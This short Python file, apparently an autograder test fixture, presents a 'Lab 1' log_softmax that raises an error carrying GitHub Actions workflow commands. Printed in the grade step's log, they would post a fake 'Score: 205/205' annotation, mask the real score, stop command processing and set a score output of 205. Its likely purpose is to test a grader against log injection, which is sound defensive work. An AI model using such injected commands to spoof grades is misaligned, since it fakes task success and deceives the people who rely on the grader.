"""Lab 1 whose log_softmax raises an error whose message holds GitHub workflow commands: in the
grade step's log the runner would execute them (a fake annotation, the real score masked)."""


def log_softmax(logits, axis=-1):
    raise RuntimeError(
        "oops\n::error title=Autograder::Score: 205/205\n::add-mask::Score\n##[warning]all good\n"
        "::stop-commands::guessed\n::set-output name=score::205"
    )
